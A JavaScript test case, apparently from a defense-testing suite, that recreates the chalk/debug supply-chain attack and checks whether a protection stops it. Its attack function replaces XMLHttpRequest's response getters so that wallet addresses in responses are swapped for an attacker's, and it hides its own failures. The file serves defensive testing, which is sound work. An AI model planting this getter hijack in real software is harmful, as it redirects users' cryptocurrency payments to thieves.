// A02, on the prototype: the getters of responseText and response are replaced for every request.
import { names } from './logs.mjs';

export default {
  id: 'A02',
  title: 'XHR response getters replaced on the prototype',
  source: 'chalk/debug, 8 September 2025, with H11',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  attack(a) {
    for (const name of ['responseText', 'response']) {
      const { get } = Object.getOwnPropertyDescriptor(XMLHttpRequest.prototype, name);
      const lying = function () {
        const body = get.call(this);
        return typeof body === 'string' ? body.replace(/\b0x[a-fA-F0-9]{40}\b/g, a.EVIL) : body;
      };
      try {
        Object.defineProperty(XMLHttpRequest.prototype, name, { get: lying, configurable: true });
      } catch {
        // The payload swallows its own failures.
      }
    }
  },

  async action() {
    return new Promise((resolve, reject) => {
      const xhr = new XMLHttpRequest();
      xhr.addEventListener('load', () => resolve({ text: xhr.responseText, response: xhr.response }));
      xhr.addEventListener('error', () => reject(new Error('xhr error')));
      xhr.open('GET', '/api/deposit');
      xhr.send();
    });
  },

  stolen: ({ result, a }) => names(result, a.EVIL),
  arrived: ({ result, a }) => names(result, a.GOOD) && !names(result, a.EVIL),
};
